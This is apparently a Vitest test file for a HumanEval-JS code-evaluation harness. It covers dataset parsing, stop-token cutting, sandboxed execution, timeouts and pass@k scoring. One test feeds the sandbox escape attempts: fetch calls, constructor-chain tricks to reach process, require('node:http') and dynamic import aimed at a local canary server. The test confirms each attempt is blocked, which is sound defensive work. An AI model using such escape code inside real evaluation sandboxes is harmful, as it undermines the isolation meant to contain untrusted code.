import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { CodeSandbox } from '../../src/engine/eval/sandbox';
import type { HumanEvalItem } from '../../src/engine/eval/suite-types';
import {
  cutAtStopTokens,
  humanEvalProgram,
  isHumanEvalRecord,
  parseHumanEvalJsonl,
  runHumanEvalCompletion,
  scoreHumanEval,
  trainingRefusal,
} from '../../src/engine/eval/suites/humaneval';
import { createNodeSandbox } from '../../src/node/sandbox/node-sandbox';
import { startCanaryServer, type CanaryServer } from '../helpers/canary-server';

const FILE = resolve(__dirname, '../../../shared/assets/datasets/humaneval-js/humaneval-js.jsonl');
const TEXT = readFileSync(FILE, 'utf8');
const { items: ITEMS, errors: PARSE_ERRORS } = parseHumanEvalJsonl(TEXT, 'humaneval-js.jsonl');
const byName = (prefix: string): HumanEvalItem => {
  const item = ITEMS.find((i) => i.name.startsWith(prefix + '_'));
  if (!item) throw new Error(`no problem ${prefix}`);
  return item;
};

const LIMIT = 5000; // a correct program takes a few ms; generous for a loaded machine
const LOOP_LIMIT = 300;

// Raw completions as a model writes them: the body, the closing brace, then more text that the problem's
// stop sequences ("\nfunction ", "\n/*", "\n//", "\nconsole.log") cut away.
const CORRECT: Record<string, string> = {
  HumanEval_0: `  for (let i = 0; i < numbers.length; i++)
    for (let j = i + 1; j < numbers.length; j++)
      if (Math.abs(numbers[i] - numbers[j]) < threshold) return true;
  return false;
}

function unrelated() { throw new Error('cut away'); }
`,
  HumanEval_12: `  if (strings.length === 0) return undefined;
  let best = strings[0];
  for (const s of strings) if (s.length > best.length) best = s;
  return best;
}
// a trailing comment and more
console.log('cut away');
`,
  HumanEval_13: `  while (b !== 0) [a, b] = [b, a % b];
  return Math.abs(a);
}
/* done */`,
  HumanEval_35: `  return Math.max(...l);
}
console.log(max_element([1]));`,
  HumanEval_55: `  let [x, y] = [0, 1];
  for (let i = 0; i < n; i++) [x, y] = [y, x + y];
  return x;
}
`,
};

const WRONG: Record<string, string> = {
  HumanEval_0: '  return false;\n}\n', // never finds a close pair
  HumanEval_12: '  return strings[strings.length - 1];\n}\n', // the last, not the first longest
  HumanEval_13: '  return Math.min(a, b);\n}\n',
  HumanEval_35: '  return l[0];\n}\n',
  HumanEval_55: '  return n <= 2 ? 1 : fib(n - 1) + fib(n - 3);\n}\n',
};

let sandbox: CodeSandbox;
let canary: CanaryServer;
beforeAll(async () => {
  sandbox = createNodeSandbox();
  canary = await startCanaryServer();
});
afterAll(async () => {
  sandbox.dispose();
  await canary.close();
});

describe('HumanEval-JS data', () => {
  test('all 161 problems parse, each with its prompt, tests and the four stop sequences', () => {
    expect(PARSE_ERRORS).toEqual([]);
    expect(ITEMS).toHaveLength(161);
    expect(byName('HumanEval_0').stopTokens).toEqual(['\nfunction ', '\n/*', '\n//', '\nconsole.log']);
    expect(ITEMS.every((i) => i.prompt.endsWith('{\n') && i.tests.includes("require('node:assert')"))).toBe(true);
  });

  test('bad lines are reported with their line and field', () => {
    const text = '{"name":"HumanEval_1_x","prompt":"p","tests":"t","stop_tokens":["\\n//"]}\nnot json\n{"name":"HumanEval_2_y","prompt":"p","tests":"t","stop_tokens":"x"}\n';
    const { items, errors } = parseHumanEvalJsonl(text, 'mine.jsonl');
    expect(items.map((i) => i.name)).toEqual(['HumanEval_1_x']);
    expect(errors.map((e) => [e.line, e.field])).toEqual([
      [2, ''],
      [3, 'stop_tokens'],
    ]);
    expect(errors[1].message).toBe('mine.jsonl:3: stop_tokens must be a list of non-empty strings');
  });

  test('completions are cut at the earliest stop sequence, as MultiPL-E cuts them', () => {
    const stops = ['\nfunction ', '\n/*', '\n//', '\nconsole.log'];
    // The earliest stop wins, wherever it is in the list; an indented comment is not a stop.
    expect(cutAtStopTokens('  // indented comment stays\n  return 1;\n}\n// note\nfunction f() {}', stops)).toBe('  // indented comment stays\n  return 1;\n}');
    expect(cutAtStopTokens('  return 1;\n}\nfunction f() {}\n// note', stops)).toBe('  return 1;\n}');
    expect(cutAtStopTokens('  return 1; // inline comment stays\n}', stops)).toBe('  return 1; // inline comment stays\n}');
    expect(cutAtStopTokens('no stop at all', stops)).toBe('no stop at all');
  });

  test('its licence forbids training: HumanEval records are refused, other records are not', () => {
    const records = TEXT.trim().split('\n').map((l) => JSON.parse(l) as unknown);
    expect(isHumanEvalRecord(records[0])).toBe(true);
    expect(trainingRefusal(records)).toMatch(/^record 1 \(HumanEval_0_has_close_elements\) is a HumanEval problem\. .*evaluation only/);
    expect(trainingRefusal([{ prompt: 'a', completion: 'b' }, { text: 'hello' }])).toBeUndefined();
  });
});

describe('HumanEval-JS in the Node sandbox', () => {
  test.each(Object.keys(CORRECT))('a correct solution of %s passes', async (prefix) => {
    const run = await runHumanEvalCompletion(sandbox, byName(prefix), CORRECT[prefix], LIMIT);
    expect(run.error).toBeUndefined();
    expect(run.passed).toBe(true);
    expect(run.completion.endsWith('}') || run.completion.endsWith('}\n')).toBe(true);
  });

  test.each(Object.keys(WRONG))('a wrong solution of %s fails on an assertion', async (prefix) => {
    const run = await runHumanEvalCompletion(sandbox, byName(prefix), WRONG[prefix], LIMIT);
    expect(run.passed).toBe(false);
    expect(run.timedOut).toBe(false);
    expect(run.error).toMatch(/^AssertionError: Expected values to be loosely deep-equal/);
  });

  test("the tests' deepEqual is loose, as node:assert's legacy mode: \"3\" equals 3", async () => {
    const run = await runHumanEvalCompletion(sandbox, byName('HumanEval_23'), '  return String(string.length);\n}\n', LIMIT);
    expect(run.passed).toBe(true);
  });

  test('an infinite loop in the completion and a while(true) in a test both time out, and the next program runs', async () => {
    const gcd = byName('HumanEval_13');
    const loop = await runHumanEvalCompletion(sandbox, gcd, '  while (true) {}\n}\n', LOOP_LIMIT);
    expect(loop).toMatchObject({ passed: false, timedOut: true, error: `timed out after ${LOOP_LIMIT} ms` });
    expect(loop.ms).toBeGreaterThanOrEqual(LOOP_LIMIT - 5);
    expect(loop.ms).toBeLessThan(LOOP_LIMIT + 400);

    const loopingTests: HumanEvalItem = { ...gcd, tests: gcd.tests.replace('function test() {', 'function test() {\n  while(true) {}') };
    expect(loopingTests.tests).toContain('while(true)');
    const inTest = await runHumanEvalCompletion(sandbox, loopingTests, CORRECT.HumanEval_13, LOOP_LIMIT);
    expect(inTest).toMatchObject({ passed: false, timedOut: true });

    // An endless chain of promises never returns to the event loop: also stopped at the limit.
    const asyncLoop = await runHumanEvalCompletion(sandbox, gcd, '  (async () => { for (;;) await null; })();\n  return 1;\n}\n', LOOP_LIMIT);
    expect(asyncLoop).toMatchObject({ passed: false, timedOut: true });

    const next = await runHumanEvalCompletion(sandbox, gcd, CORRECT.HumanEval_13, LIMIT);
    expect(next.passed).toBe(true);
  });

  test('code that calls fetch or touches globalThis.indexedDB fails and reaches nothing', async () => {
    const gcd = byName('HumanEval_13');
    const attempts = {
      fetch: `  fetch('${canary.url}/fetch?a=' + a);\n  return 1;\n}\n`,
      indexedDB: `  globalThis.indexedDB.open('stolen');\n  return 1;\n}\n`,
      // Ways around a missing global: the realm's own constructors, node's modules, dynamic import.
      hostFunction: `  this.constructor.constructor('return process')().mainModule.require('http').get('${canary.url}/process');\n}\n`,
      functionCtor: `  (() => {}).constructor('return fetch')()('${canary.url}/ctor');\n}\n`,
      require: `  require('node:http').get('${canary.url}/require');\n}\n`,
      importCall: `  import('${canary.url}/import.mjs').catch((e) => e.constructor.constructor('return process')());\n}\n`,
    };
    const errors: Record<string, string | undefined> = {};
    for (const [name, completion] of Object.entries(attempts)) {
      const run = await runHumanEvalCompletion(sandbox, gcd, completion, LIMIT);
      expect(run.passed, name).toBe(false);
      errors[name] = run.error;
    }
    expect(errors.fetch).toBe('TypeError: fetch is not available in the sandbox: it has no network, storage or host access');
    expect(errors.indexedDB).toBe('TypeError: indexedDB is not available in the sandbox: it has no network, storage or host access');
    expect(errors.hostFunction).toMatch(/constructor is not available in the sandbox/);
    expect(errors.functionCtor).toMatch(/Function constructor is not available in the sandbox/);
    expect(errors.require).toMatch(/Cannot find module 'node:http'/);
    expect(errors.importCall).toMatch(/import is not available in the sandbox/);
    // Give any request that escaped time to arrive before counting.
    await new Promise((r) => setTimeout(r, 100));
    expect(canary.requests).toEqual([]);
  });

  test('the program for a stub body is valid JavaScript and fails every problem on an assertion', async () => {
    const counts = { passed: 0, assertion: 0, other: [] as string[] };
    for (const item of ITEMS) {
      const run = await runHumanEvalCompletion(sandbox, item, '  return undefined;\n}\n', LIMIT);
      if (run.passed) counts.passed++;
      else if (run.error?.startsWith('AssertionError')) counts.assertion++;
      else counts.other.push(`${item.name}: ${run.error}`);
    }
    expect(counts).toEqual({ passed: 0, assertion: 161, other: [] });
  });

  test('scoring: pass@1 greedy and pass@k over samples, per problem and for the suite', async () => {
    const gcd = byName('HumanEval_13');
    const fib = byName('HumanEval_55');
    expect(humanEvalProgram(gcd, 'X')).toBe(gcd.prompt + 'X\n' + gcd.tests);

    const greedy = await scoreHumanEval(sandbox, [gcd, fib], [[CORRECT.HumanEval_13], [WRONG.HumanEval_55]], { timeLimitMs: LIMIT, ks: [1] });
    expect(greedy.scores['pass@1,none'].value).toBe(0.5);
    expect(greedy.items.map((i) => i.scores['pass@1,none'])).toEqual([1, 0]);
    expect(greedy.items[1].error).toMatch(/^AssertionError/);
    expect(greedy.items[0].output).toBe(cutAtStopTokens(CORRECT.HumanEval_13, gcd.stopTokens));

    // gcd: 2 of 3 samples pass; fib: 0 of 3. pass@1 = mean(2/3, 0); pass@2 = mean(1 - C(1,2)/C(3,2) = 1, 0).
    const sampled = await scoreHumanEval(
      sandbox,
      [gcd, fib],
      [
        [CORRECT.HumanEval_13, WRONG.HumanEval_13, CORRECT.HumanEval_13],
        [WRONG.HumanEval_55, WRONG.HumanEval_55, '  while (true) {}\n}\n'],
      ],
      { timeLimitMs: LOOP_LIMIT, ks: [1, 2] },
    );
    expect(sampled.scores['pass@1,none'].value).toBeCloseTo(1 / 3, 15);
    expect(sampled.scores['pass@2,none'].value).toBe(0.5);
    expect(sampled.items[0].detail).toMatchObject({ passed: 2, samples: 3 });
    expect(sampled.items[1].outputs).toHaveLength(3);
    await expect(scoreHumanEval(sandbox, [gcd], [[CORRECT.HumanEval_13]], { timeLimitMs: LIMIT, ks: [2] })).rejects.toThrow(/pass@2 needs at least 2/);
  });
});
